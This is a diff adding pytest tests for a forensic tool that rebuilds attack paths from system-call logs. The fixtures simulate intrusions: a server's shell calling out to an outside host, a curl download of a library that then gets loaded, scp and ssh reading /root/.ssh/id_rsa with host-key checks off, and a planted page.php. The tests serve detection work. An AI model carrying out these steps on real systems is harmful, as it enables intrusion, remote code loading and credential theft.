@@ -1,0 +1,154 @@
+"""The printed story of short logs: who came in through which port, what older servers did for them, what tells nothing."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.ingest.script import O_CREAT, O_TRUNC, O_WRONLY, Actor, Script
+from tests.provenance.intake.logs import write_log
+from tests.provenance.recordings.recordings import ingested, run
+
+PEER = "198.51.100.23"
+OUTSIDE = ("203.0.113.9", 8443)
+NEW = O_WRONLY | O_CREAT | O_TRUNC
+
+
+def told(folder: Path, script: Script, command: str, *options: str) -> str:
+    """The story of the program with this command line, each part of it on one line."""
+    store = ingested(folder / "s.db", [write_log(folder / "s.log", script.text())])
+    code, output = run("backtrack", "--store", store, "--command", command, "--wide", *options)
+    assert code == 0
+    return output.split("\n\nThe trace: ", 1)[0]
+
+
+def server(script: Script, *ports: int) -> Actor:
+    """A server that listens."""
+    shop = script.process(100, comm="shopd", exe="/usr/sbin/shopd")
+    shop.execs("/usr/sbin/shopd", "shopd")
+    for number, port in enumerate(ports):
+        shop.listens(3 + number, "0.0.0.0", port)
+    return shop
+
+
+def harm(shop: Actor, pid: int = 200) -> Actor:
+    """A shell of the server's that calls outside."""
+    shell = shop.forks(pid)
+    shell.execs("/bin/bash", "bash", "/tmp/.x")
+    shell.sockets(5)
+    shell.connects(5, *OUTSIDE)
+    return shell
+
+
+@pytest.mark.parametrize(
+    ("ports", "expected"),
+    [
+        ((), "through shopd (pid 100"),
+        ((8080,), "through port 8080 of shopd (pid 100"),
+        ((80, 443), "through port 80 or 443 of shopd (pid 100"),
+        ((1, 2, 3, 4), "through shopd (pid 100"),
+    ],
+)
+def test_a_way_in_names_the_ports_on_which_the_server_listens(
+    tmp_path: Path, ports: tuple[int, ...], expected: str
+) -> None:
+    script = Script()
+    shop = server(script, *ports)
+    shop.accepts(3, 9, PEER, 40_000)
+    harm(shop)
+    assert expected in told(tmp_path, script, "^bash /tmp/.x$")
+
+
+def test_a_copy_of_a_server_has_the_port_of_the_server(tmp_path: Path) -> None:
+    script = Script()
+    worker = server(script, 8080).forks(150)
+    worker.accepts(3, 9, PEER, 40_000)
+    harm(worker)
+    story = told(tmp_path, script, "^bash /tmp/.x$")
+    assert "through port 8080 of shopd (pid 150" in story
+    assert f"{PEER}:40000 enters through port 8080 of shopd (uid 0)" in story
+
+
+def test_a_port_that_is_opened_after_the_peer_came_in_is_not_the_one(tmp_path: Path) -> None:
+    script = Script()
+    shop = server(script, 8080)
+    shop.accepts(3, 9, PEER, 40_000)
+    harm(shop)
+    shop.listens(4, "0.0.0.0", 9090)
+    assert "through port 8080 of shopd" in told(tmp_path, script, "^bash /tmp/.x$")
+
+
+def test_a_server_is_told_by_what_it_began_after_the_peer_came_in(tmp_path: Path) -> None:
+    script = Script()
+    shop = server(script, 8080)
+    shop.opens("/srv/state", NEW, fd=6, created=True)
+    shop.opens("/srv/shop.log", NEW, fd=7, created=True)
+    shop.accepts(3, 9, PEER, 40_000)
+    shop.opens("/srv/up/page.php", NEW, fd=8, created=True)
+    shop.opens("/srv/log/day", NEW, fd=10, created=True)
+    harm(shop)
+    script.wait(60_000)
+    shop.opens("/srv/dump", NEW, fd=11, created=True)
+    shop.exits()
+    story = told(tmp_path, script, "^bash /tmp/.x$")
+    assert "shopd → writes /srv/up/page.php" in story
+    assert all(name not in story for name in ("/srv/state", "/srv/shop.log", "/srv/log/day", "/srv/dump"))
+
+
+def test_a_library_that_a_program_of_the_story_wrote_is_told_where_it_is_loaded(tmp_path: Path) -> None:
+    script = Script()
+    shop = server(script, 8080)
+    shop.accepts(3, 9, PEER, 40_000)
+    fetch = shop.forks(201)
+    fetch.execs("/usr/bin/curl", "curl", "http://203.0.113.9/l")
+    fetch.opens("/srv/lib/libz.so.9", NEW, fd=6, created=True)
+    fetch.exits()
+    shell = harm(shop)
+    for name in ("/usr/lib/libc.so.6", "/srv/lib/libz.so.9"):
+        shell.opens(name, fd=6)
+        shell.call("mmap", 0, 4096, 5, 2, exit=0x7F00, records=(("MMAP", "fd=6 flags=0x2"),))
+        shell.closes(6)
+    story = told(tmp_path, script, "^bash /tmp/.x$")
+    assert "curl http://203.0.113.9/l → writes /srv/lib/libz.so.9" in story
+    assert "libc.so.6" not in story
+
+
+def test_the_ssh_of_an_scp_is_told_as_scp_and_settings_are_shown_short(tmp_path: Path) -> None:
+    script = Script()
+    shop = server(script, 8080)
+    shop.accepts(3, 9, PEER, 40_000)
+    shell = harm(shop)
+    copy = shell.forks(202)
+    copy.execs("/usr/bin/scp", "scp", "-o", "StrictHostKeyChecking=no", "/tmp/a", "ops@10.0.0.7:b")
+    transport = copy.forks(203)
+    transport.execs(
+        "/usr/bin/ssh", "/usr/bin/ssh", "-x", "-oPermitLocalCommand=no", "-l", "ops", "-s", "10.0.0.7", "sftp"
+    )
+    transport.opens("/root/.ssh/id_rsa", fd=4)
+    other = shell.forks(204)
+    other.execs("/usr/bin/ssh", "/usr/bin/ssh", "-x", "-oPermitLocalCommand=no", "ops@10.0.0.8")
+    story = told(tmp_path, script, "^bash /tmp/.x$")
+    assert "scp [settings] /tmp/a ops@10.0.0.7:b → reads /root/.ssh/id_rsa" in story
+    assert "-s 10.0.0.7 sftp" not in story
+    assert "/usr/bin/ssh [settings] ops@10.0.0.8" in story
+    assert "StrictHostKeyChecking=no" in told(tmp_path, script, "^bash /tmp/.x$", "--steps", "all")
+
+
+def test_the_path_names_the_programs_and_files_between_the_way_in_and_the_alert(tmp_path: Path) -> None:
+    script = Script()
+    shop = server(script, 8080)
+    timer = script.process(300, comm="timer", exe="/usr/sbin/timer")
+    timer.execs("/usr/sbin/timer", "timer")
+    shop.accepts(3, 9, PEER, 40_000)
+    writer = shop.forks(200)
+    writer.execs("/bin/sh", "sh", "-c", "echo x > /srv/jobs/refresh")
+    writer.opens("/srv/jobs/refresh", NEW, fd=1, created=True)
+    writer.exits()
+    job = timer.forks(301)
+    job.execs("/bin/bash", "bash", "/srv/jobs/refresh")
+    job.opens("/srv/jobs/refresh", fd=3)
+    job.sockets(5)
+    job.connects(5, *OUTSIDE)
+    story = told(tmp_path, script, "^bash /srv/jobs/refresh$")
+    assert "Path       shopd > sh > /srv/jobs/refresh > bash /srv/jobs/refresh (started by timer)" in story
